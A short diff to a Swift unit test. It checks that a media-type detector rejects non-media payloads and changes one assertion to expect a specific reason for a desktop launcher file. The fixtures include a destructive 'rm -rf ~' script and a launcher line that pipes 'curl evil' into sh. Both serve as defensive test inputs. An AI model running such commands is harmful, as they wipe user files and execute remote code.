@@ -27,7 +27,8 @@ import Testing
         let utf16BEWithoutMark: [UInt8] = page.flatMap { [UInt8(0), $0] }
         #expect(isNotMedia(verdict(utf16BEWithoutMark)))
         #expect(isNotMedia(verdict(Array("#!/bin/sh\nrm -rf ~\n".utf8))))
-        #expect(isNotMedia(verdict(Array("[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil|sh'\n".utf8))))
+        #expect(verdict(Array("[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil|sh'\n".utf8))
+                == .notMedia("the server answered with a desktop entry (a launcher), not media"))
         #expect(isNotMedia(verdict(Array(#"{"error": "expired"}"#.utf8) + [0x1B])))
     }
 
